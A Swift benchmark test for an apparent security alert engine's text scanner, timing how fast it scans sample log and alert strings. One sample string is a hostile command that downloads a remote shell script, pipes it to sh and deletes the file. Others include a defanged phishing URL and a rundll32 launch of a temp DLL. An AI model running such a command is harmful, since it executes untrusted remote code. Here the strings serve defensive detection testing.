import Foundation
import Testing
@testable import AlertEngine

/// How fast free text is scanned, which every ingested signal pays. Runs only when asked:
///   TASER_BENCH=1 swift test -c release --filter TextScannerBenchmark
/// and prints texts per second next to a baseline in the same run (one pass that only reads
/// every byte, the floor any scanner stands on). It asserts no times.
@Suite struct TextScannerBenchmark {
    static let texts: [String] = [
        "Failed password for invalid user admin from 185.220.101.4 port 52311 ssh2",
        "User jane.doe@example.com signed in from new location (Bucharest, RO)",
        "DNS query for a1b2c3.duckdns.org blocked by policy",
        #"Process Create: C:\Windows\System32\rundll32.exe C:\Users\jdoe\AppData\Local\Temp\x.dll,Start"#,
        "GET /api/v1/users?id=42 HTTP/1.1 200 1532 \"Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0\"",
        "ET MALWARE Possible Cobalt Strike Beacon 10.0.0.12:49755 -> 45.77.12.3:443",
        "Reset your password at hxxps://login-micros0ft[.]com/reset?u=jane",
        "curl -s http://203.0.113.9/x.sh | sh; rm -f /tmp/x.sh",
        "Duo push denied by user: fraud reported",
        "file hash e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855 matched CVE-2024-3094",
        "Account lockout for jdoe after 5 failed attempts",
        "2026-11-29T10:00:00Z INFO service started version 1.2.3 on host web-01",
    ]

    @Test(.enabled(if: ProcessInfo.processInfo.environment["TASER_BENCH"] != nil))
    func textsPerSecond() {
        let rounds = 50_000
        let count = rounds * Self.texts.count
        var found = 0
        let scan = ContinuousClock().measure {
            for _ in 0..<rounds {
                for text in Self.texts { found &+= TextScanner.scan(text).count }
            }
        }
        var sum = 0
        let baseline = ContinuousClock().measure {
            for _ in 0..<rounds {
                for text in Self.texts { for byte in text.utf8 { sum &+= Int(byte) } }
            }
        }
        func perSecond(_ d: Duration) -> Double {
            Double(count) / (Double(d.components.seconds) + Double(d.components.attoseconds) / 1e18)
        }
        let rate = perSecond(scan), floor = perSecond(baseline)
        print("TextScanner: \(Int(rate)) texts/s (\(found / rounds) artifacts a round); byte pass: \(Int(floor)) texts/s; ratio \(String(format: "%.1f", floor / rate))x (sum \(sum % 10))")
        #expect(found > 0)
    }
}
